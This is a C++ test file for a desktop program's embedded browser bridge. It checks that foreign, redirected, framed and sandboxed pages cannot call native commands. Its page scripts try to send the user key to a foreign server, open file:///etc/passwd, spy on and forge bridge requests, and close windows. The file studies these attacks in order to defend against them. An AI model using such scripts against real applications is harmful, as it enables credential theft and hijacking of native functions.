// Pages that attack the program through the browser: a foreign origin (a
// second loopback server) reached by script navigation, redirect, iframe and
// pop-up, sandboxed frames, plain markup, page script that spies on and forges
// the bridge's requests, handlers that destroy the view while a call is being
// answered, and names and answers the bridge must not mangle.
#include "testsupport.h"
#include "browsertest.h"

#include <kelctrls/browser.h>
#include <kelctrls/messaging/handlers.h>
#include <kelctrls/platform/imcore.h>
#include <kelctrls/messaging/presencemanager.h>
#include <kelctrls/skin/windowbases.h>

#include <wx/evtloop.h>
#include <wx/filename.h>
#include <wx/frame.h>
#include <wx/timer.h>
#include <wx/webview.h>

#include <map>

using kel::test::Eval;
using kel::test::LoopbackServer;
using kel::test::OpenBrowserFrames;
using kel::test::Pump;
using kel::test::WaitUntil;

namespace
{

const char UserKey[] = "key-5ecret";

// A call-back whose commands are a table the test fills; every call that
// reaches it is recorded, accepted or not.
class TableCallBase : public wxIECallBase
{
public:
    // `name` is the name the call arrived with.
    using Command = std::function<wxString(const wxString& name, wxArrayString& args)>;

    bool JScriptCheck(const wxString& name) override { return commands.count(name) > 0; }
    wxString JScriptProcess(const wxString& name, wxArrayString& args) override
    {
        calls.push_back(name + "(" + wxJoin(args, ',', 0) + ")");
        const auto command = commands.find(name);
        return command == commands.end() ? wxString() : command->second(name, args);
    }
    void OnMSHTMLDocumentComplete(wxIEPanel*, wxActiveXEvent& event) override
    {
        completed.push_back(event["URL"].GetString());
    }

    std::map<wxString, Command> commands;
    std::vector<wxString> calls;
    std::vector<wxString> completed;
};

class PhoneRecorder : public PhoneCallBase
{
public:
    void MakeCall(const wxString& number) override { numbers.push_back(number); }
    std::vector<wxString> numbers;
};

wxArrayString One(const wxString& text)
{
    return wxArrayString(1, &text);
}

// The outcome of `call` in the page: "ran:<answer>" or "refused".
wxString Attempt(wxWebView* view, const wxString& call)
{
    return Eval(view, "(function () { try { return 'ran:' + (" + call +
                          "); }"
                          " catch (e) { return 'refused'; } })()");
}

// Collects what frames of the page post to it, in window.posted.
const char PostCollector[] =
    "<script>window.posted = [];"
    "window.addEventListener('message', function (e) { posted.push(String(e.data)); });"
    "</script>";

// In a frame: tries the page's external object of its own and of its parent,
// then posts the outcome to the parent.
const char FrameAttack[] = "<script>"
                           "var out = [];"
                           "try { window.external.Record('frame'); out.push('own:ran'); }"
                           " catch (e) { out.push('own:refused'); }"
                           "try { parent.external.Record('parent'); out.push('parent:ran'); }"
                           " catch (e) { out.push('parent:refused'); }"
                           "parent.postMessage(out.join(','), '*');"
                           "</script>";

class HostileTest : public kel::test::BrowserPanelTest
{
protected:
    void SetUp() override
    {
        PresenceManager::GetInstance()->SetMyPresence(
            Presence("alice@example.org/desk", wxString(), PTYPE_ONLINE, wxString(), wxString()));
        m_client.Bind(htmlEVT_HTMLCALL_FUNCTION,
                      [this](HtmlCallFuncEvent& event)
                      {
                          m_clientCalls.push_back(event.GetFuncname());
                          event.SetResult("users");
                      });
        wxIEPanel::SetDefaultBrowserLauncher(
            [this](const wxString& url)
            {
                m_launched.push_back(url);
                return true;
            });

        m_callBase.commands["Record"] = [](const wxString&, wxArrayString& args)
        { return "recorded:" + wxJoin(args, ',', 0); };
        OpenPanel("hostile", &m_callBase, &m_client, UserKey, true);

        m_home.SetPage("/home", "<html><head><title>Home</title></head><body>home</body></html>");
        m_foreign.SetPage("/evil", "<html><head><title>Evil</title></head><body>evil</body></html>");
    }

    bool Loaded(const wxString& url)
    {
        return WaitUntil(
            [&]
            {
                const auto& done = m_callBase.completed;
                return std::find(done.begin(), done.end(), url) != done.end();
            },
            10000);
    }

    // The program opens a page of the trusted server.
    bool OpenHome(const std::string& path)
    {
        m_callBase.completed.clear();
        m_panel->OnNavigate(m_home.Url(path));
        return Loaded(m_home.Url(path));
    }

    // The page sends the view to `url` by itself.
    bool PageGoesTo(const wxString& url)
    {
        Eval("location.href = '" + url + "'; 1");
        return Loaded(url);
    }

    wxString Attempt(const wxString& call) { return ::Attempt(View(), call); }

    bool KeyLeaked() const { return m_foreign.Received(UserKey) || m_foreign.Received("alice"); }

    LoopbackServer m_home;
    LoopbackServer m_foreign;
    TableCallBase m_callBase;
    wxEvtHandler m_client;
    std::vector<wxString> m_clientCalls;
    std::vector<wxString> m_launched;
};

} // namespace

TEST_F(HostileTest, ForeignPageGetsNeitherTheKeyNorAnyCommand)
{
    m_foreign.SetPage("/collect", "<html><body>thanks</body></html>");
    ASSERT_TRUE(OpenHome("/home"));
    ASSERT_TRUE(PageGoesTo(m_foreign.Url("/evil")));

    const wxString collect = m_foreign.Url("/collect?key=varnel_user_key&user=varnel_user_name");
    EXPECT_EQ(Attempt("window.external.OpenUrl('" + collect + "')"), "refused");
    EXPECT_EQ(Attempt("window.external.OpenIE('" + collect + "')"), "refused");
    EXPECT_EQ(Attempt("window.external.FetchUsers('all')"), "refused");
    EXPECT_EQ(Attempt("window.external.OpenIM()"), "refused");
    EXPECT_EQ(Attempt("window.external.Record('evil')"), "refused");
    Pump(500);
    EXPECT_FALSE(KeyLeaked());
    EXPECT_TRUE(OpenBrowserFrames().empty());
    EXPECT_TRUE(m_launched.empty());
    EXPECT_TRUE(m_clientCalls.empty());
    EXPECT_TRUE(m_callBase.calls.empty());
}

TEST_F(HostileTest, TrustedPageCannotSendTheKeyOrLocalFilesElsewhere)
{
    m_foreign.SetPage("/collect", "<html><body>thanks</body></html>");
    ASSERT_TRUE(OpenHome("/home"));
    const wxString collect = m_foreign.Url("/collect?key=varnel_user_key&user=varnel_user_name");

    // Addresses outside the trusted origins get no user name or key.
    Attempt("window.external.OpenIE('" + collect + "')");
    Attempt("window.external.OpenUrl('" + collect + "')");
    WaitUntil([&]
              { return m_foreign.CountRequests("/collect?key=varnel_user_key&user=varnel_user_name") > 0; },
              5000);
    EXPECT_FALSE(KeyLeaked());
    for (const wxString& url : m_launched)
        EXPECT_FALSE(url.Contains(UserKey)) << url;

    // Only web addresses go to the desktop browser or to new frames.
    const size_t frames = OpenBrowserFrames().size();
    const wxString local = wxFileName::FileNameToURL(wxFileName(wxGetCwd(), "local.html"));
    Attempt("window.external.OpenIE('file:///etc/passwd')");
    Attempt("window.external.OpenIE('javascript:alert(1)')");
    Attempt("window.external.OpenUrl('" + local + "')");
    for (const wxString& url : m_launched)
        EXPECT_TRUE(url.StartsWith("http")) << url;
    EXPECT_EQ(OpenBrowserFrames().size(), frames);
}

TEST_F(HostileTest, RedirectedPagesFramesAndMarkupDoNotReachTheBridge)
{
    m_home.SetRedirect("/away", m_foreign.Url("/evil"));
    m_panel->OnNavigate(m_home.Url("/away"));
    ASSERT_TRUE(Loaded(m_foreign.Url("/evil")));
    EXPECT_EQ(Attempt("window.external.Record('redirected')"), "refused");

    // A foreign frame and a sandboxed one inside the program's own page.
    m_foreign.SetPage("/frame", std::string("<html><body>") + FrameAttack + "</body></html>");
    m_home.SetPage("/framed", std::string("<html><head>") + PostCollector + "</head><body><iframe src='" +
                                  m_foreign.Url("/frame") +
                                  "'></iframe><iframe sandbox='allow-scripts' srcdoc=\"" + FrameAttack +
                                  "\"></iframe></body></html>");
    ASSERT_TRUE(OpenHome("/framed"));
    ASSERT_TRUE(WaitUntil([&] { return Eval("String(posted.length)") == "2"; }, 10000));
    EXPECT_EQ(Eval("posted.join(';')"), "own:refused,parent:refused;own:refused,parent:refused");

    // Requests the page makes without the bridge: images, top-frame
    // navigation and plain requests to the bridge's scheme under any token.
    wxString markup;
    for (int token = 0; token < 40; ++token)
        markup += wxString::Format("<img src='kelext://%d/call?Record&img'>", token);
    Eval("document.body.insertAdjacentHTML('beforeend', \"" + markup + "\"); 1");
    Eval("for (var t = 0; t < 40; ++t) {"
         " try { var r = new XMLHttpRequest(); r.open('GET', 'kelext://' + t + '/call?Record&xhr', false);"
         " r.send(null); } catch (e) {} } 1");
    Eval("location.href = 'kelext://1/call?Record&navigation'; 1");
    Pump(1000);
    EXPECT_TRUE(m_callBase.calls.empty()) << m_callBase.calls.front();
    EXPECT_EQ(Attempt("window.external.Record('own page')"), "ran:recorded:own page")
        << "the program's own page keeps its bridge";
}

TEST_F(HostileTest, PageScriptNeitherSeesNorForgesTheBridgesRequests)
{
    // A second view whose page may run a command the first view's may not.
    TableCallBase otherCallBase;
    otherCallBase.commands["Secret"] = [](const wxString&, wxArrayString&)
    { return wxString("secret answer"); };
    wxIEPanel* other = new wxIEPanel(m_frame, &otherCallBase, wxID_ANY, wxPoint(0, 0), wxSize(200, 200));
    m_home.SetPage("/other", "<html><body>other</body></html>");
    other->OnNavigate(m_home.Url("/other"));
    ASSERT_TRUE(WaitUntil([&] { return !otherCallBase.completed.empty(); }, 10000));

    ASSERT_TRUE(OpenHome("/home"));
    const wxString spy =
        "window.seen = [];"
        "var XHR = XMLHttpRequest.prototype, open = XHR.open, send = XHR.send, header = XHR.setRequestHeader;"
        "XHR.open = function (m, u) { seen.push(String(u)); return open.apply(this, arguments); };"
        "XHR.send = function (b) { seen.push(String(b)); return send.apply(this, arguments); };"
        "XHR.setRequestHeader = function (n, v) { seen.push(n + '=' + v); return header.apply(this, "
        "arguments); };"
        "var fetchBefore = window.fetch;"
        "window.fetch = function (u) { seen.push(String(u)); return fetchBefore.apply(this, arguments); };"
        "1";
    Eval(spy);
    EXPECT_EQ(Attempt("window.external.Record('observed')"), "ran:recorded:observed");
    EXPECT_EQ(Eval("seen.join(' ')"), "") << "the bridge used what page script patched";

    // Whatever the page could learn (what it saw, the resources the
    // engine lists), it replays against every token for the other view.
    Eval("var learnt = seen.concat(performance.getEntriesByType('resource').map(function (e) {"
         " return e.name; }));"
         "window.forged = [];"
         "learnt.forEach(function (u) {"
         " for (var t = 0; t < 40; ++t) {"
         "  var url = String(u).replace(/kelext:\\/\\/[^\\/]*/, 'kelext://' + t)"
         "   .replace(/call\\?[^&]*/, 'call?Secret');"
         "  try { var r = new XMLHttpRequest(); r.open('GET', url, false); r.send(null);"
         "   forged.push(r.responseText); } catch (e) {} } });"
         "for (var t = 0; t < 40; ++t) {"
         " try { var r = new XMLHttpRequest(); r.open('GET', 'kelext://' + t + '/call?Secret', false);"
         "  r.send(null); forged.push(r.responseText); } catch (e) {} }"
         "1");
    EXPECT_TRUE(otherCallBase.calls.empty()) << otherCallBase.calls.front();
    EXPECT_FALSE(Eval("forged.join(' ')").Contains("secret")) << "another view answered";
}

TEST_F(HostileTest, ForeignPageOpenedInAFrameCannotDialOrCloseIt)
{
    PhoneRecorder phone;
    wxIEFrame::RegisterPhoneHandler(&phone);
    m_home.SetPage("/dialer", "<html><head><title>Dialer</title></head><body>dialer</body></html>");
    m_foreign.SetPage("/dial", "<html><head><title>Dial</title></head><body>dial</body></html>");
    wxIEFrame* frame = new wxIEFrame(m_home.Url("/dialer"), nullptr);
    frame->Show();
    wxWebView* view = frame->GetIE()->GetWebView();
    ASSERT_TRUE(WaitUntil([&] { return Eval(view, "document.title") == "Dialer"; }, 10000));
    EXPECT_EQ(::Attempt(view, "window.external.MakeCall('110')"), "ran:") << "the program's own page dials";
    EXPECT_EQ(phone.numbers, std::vector<wxString>{"110"});

    ::Attempt(view, "window.external.OpenUrl('" + m_foreign.Url("/dial") + "')");
    ASSERT_TRUE(WaitUntil([&] { return OpenBrowserFrames().size() == 2; }, 10000));
    wxIEFrame* opened = OpenBrowserFrames()[1];
    wxWebView* foreign = opened->GetIE()->GetWebView();
    ASSERT_TRUE(WaitUntil([&] { return Eval(foreign, "document.title") == "Dial"; }, 10000));
    EXPECT_EQ(::Attempt(foreign, "window.external.MakeCall('999')"), "refused");
    EXPECT_EQ(phone.numbers, std::vector<wxString>{"110"});

    // A foreign frame inside the dialer tries to close it, directly and
    // through the channel the page's own window.close uses.
    m_foreign.SetPage("/closer", "<html><body><script>"
                                 "try { top.close(); } catch (e) {}"
                                 "var h = window.webkit && window.webkit.messageHandlers;"
                                 "for (var name in (h || {})) for (var t = 0; t < 40; ++t)"
                                 " try { h[name].postMessage(t + '|quit|'); } catch (e) {}"
                                 "parent.postMessage('tried', '*');"
                                 "</script></body></html>");
    Eval(view, "window.posted = []; window.addEventListener('message', function (e) {"
               " posted.push(String(e.data)); });"
               "var f = document.createElement('iframe'); f.src = '" +
                   m_foreign.Url("/closer") + "'; document.body.appendChild(f); 1");
    ASSERT_TRUE(WaitUntil([&] { return Eval(view, "posted.join()") == "tried"; }, 10000));
    Pump(500);
    EXPECT_EQ(OpenBrowserFrames().size(), 2u) << "the dialer was closed by a foreign frame";
}

TEST_F(HostileTest, HandlerMayDestroyThePanelWhileAnswering)
{
    m_callBase.commands["Leave"] = [this](const wxString&, wxArrayString&)
    {
        m_panel->GetIEWindow()->CallJScript("noted", One("bye"));
        m_panel->Destroy();
        m_panel = nullptr;
        return wxString("gone");
    };
    // The same through a nested loop, as a modal dialog runs one.
    m_callBase.commands["LeaveLater"] = [this](const wxString&, wxArrayString&)
    {
        m_panel->GetIEWindow()->CallJScript("noted", wxArrayString());
        wxEventLoop loop;
        wxTimer timer;
        timer.Bind(wxEVT_TIMER,
                   [this, &loop](wxTimerEvent&)
                   {
                       m_panel->Destroy();
                       m_panel = nullptr;
                       loop.Exit();
                   });
        timer.StartOnce(10);
        loop.Run();
        return wxString("gone");
    };

    for (const char* command : {"Leave", "LeaveLater"})
    {
        m_panel = new wxIEPanel(m_frame, &m_callBase, wxID_ANY, wxPoint(0, 0), wxSize(600, 400));
        ASSERT_TRUE(OpenHome("/home"));
        wxWebView* view = View();
        Eval(view, wxString("window.noted = function () {}; setTimeout(function () {"
                            " try { window.external.") +
                       command + "(); } catch (e) {} }, 0); 1");
        ASSERT_TRUE(WaitUntil([&] { return m_panel == nullptr; }, 10000)) << command;
        Pump(300);
    }
    // The process lives on and a new panel works.
    m_panel = new wxIEPanel(m_frame, &m_callBase, wxID_ANY, wxPoint(0, 0), wxSize(600, 400));
    ASSERT_TRUE(OpenHome("/home"));
    EXPECT_EQ(Attempt("window.external.Record('after')"), "ran:recorded:after");
}

TEST_F(HostileTest, NestedCallsKeepTheirOwnNameAndScripts)
{
    wxString outerNameAfterLoop;
    m_callBase.commands["Inner"] = [this](const wxString&, wxArrayString& args)
    {
        m_panel->GetIEWindow()->CallJScript("mark", args);
        return wxString("inner");
    };
    m_callBase.commands["Outer"] = [&](const wxString& name, wxArrayString& args)
    {
        wxIEHtmlWin* browser = m_panel->GetIEWindow();
        browser->CallJScript("mark", One(args[0]));
        // A modal loop during which another call comes in.
        wxEventLoop loop;
        m_frame->CallAfter(
            [&]
            {
                wxString answer;
                browser->GetScriptObject().Call("Inner", One("nested"), answer);
                loop.Exit();
            });
        loop.Run();
        outerNameAfterLoop = name;
        browser->CallJScript("mark", One("after loop"));
        return wxString(name);
    };
    ASSERT_TRUE(OpenHome("/home"));
    Eval("window.marks = []; window.mark = function (v) { marks.push(v); }; 1");
    EXPECT_EQ(Attempt("window.external.Outer('before loop')"), "ran:Outer");
    EXPECT_EQ(Eval("marks.join(',')"), "before loop,nested,after loop");
    EXPECT_EQ(outerNameAfterLoop, "Outer");
}

TEST_F(HostileTest, NamesArgumentsAndAnswersArriveWholeOrFailVisibly)
{
    m_callBase.commands["Echo"] = [](const wxString&, wxArrayString& args)
    { return args.empty() ? wxString() : args[0]; };
    m_callBase.commands["Lone"] = [this](const wxString&, wxArrayString&)
    {
        const wxString lone = wxString(wxUniChar(0xD800)) + "x";
        m_panel->GetIEWindow()->CallJScript("mark", One(lone));
        return lone;
    };
    ASSERT_TRUE(OpenHome("/home"));
    Eval("window.marks = []; window.mark = function (v) { marks.push(v); }; 1");

    EXPECT_EQ(Attempt("window.external['Echo\\u0000Evil']('x')"), "refused");
    EXPECT_EQ(Attempt("window.external.Echo('a\\u0000b')"), "refused");
    EXPECT_EQ(m_callBase.calls, std::vector<wxString>()) << "a truncated call ran";

    // A lone surrogate is replaced, in the answer and in the carried script.
    EXPECT_EQ(Attempt("escape(window.external.Lone())"), "ran:%uFFFDx");
    EXPECT_EQ(Eval("escape(marks.join())"), "%uFFFDx");

    // The panel's own commands without arguments reach the call-back only
    // when the call-back accepts them.
    m_callBase.calls.clear();
    Attempt("window.external.FetchUsers()");
    Attempt("window.external.OpenUrl()");
    EXPECT_EQ(m_callBase.calls, std::vector<wxString>());

    // Texts that must arrive exactly, both ways.
    // (as the bodies of script string literals)
    const char* const texts[] = {"",
                                 "\"\\'\\\\",
                                 "</script><script>x()</script>",
                                 "\\u2028\\u2029",
                                 "& ? % # / = + ;",
                                 "\\ud83d\\ude00 \\u00fc"};
    for (const char* text : texts)
        EXPECT_EQ(Eval(wxString("String(window.external.Echo('") + text + "') === '" + text + "')"), "true")
            << text;
    EXPECT_EQ(Eval("var big = new Array(1 << 20).join('\\u00e9').slice(0, 1 << 20);"
                   " String(window.external.Echo(big) === big)"),
              "true");

    // Many calls in a row and calls nested through carried scripts answer
    // in order.
    EXPECT_EQ(Eval("var ok = true; for (var i = 0; i < 1000; ++i)"
                   " ok = ok && window.external.Echo(String(i)) === String(i); String(ok)"),
              "true");
    m_callBase.commands["Nest"] = [this](const wxString&, wxArrayString& args)
    {
        long depth = 0;
        args[0].ToLong(&depth);
        if (depth > 0)
            m_panel->GetIEWindow()->CallJScript("nest", One(wxString::Format("%ld", depth - 1)));
        return args[0];
    };
    EXPECT_EQ(Eval("window.order = []; window.nest = function (d) { order.push(window.external.Nest(d)); };"
                   " nest('20'); order.join(',')"),
              "0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20");
}
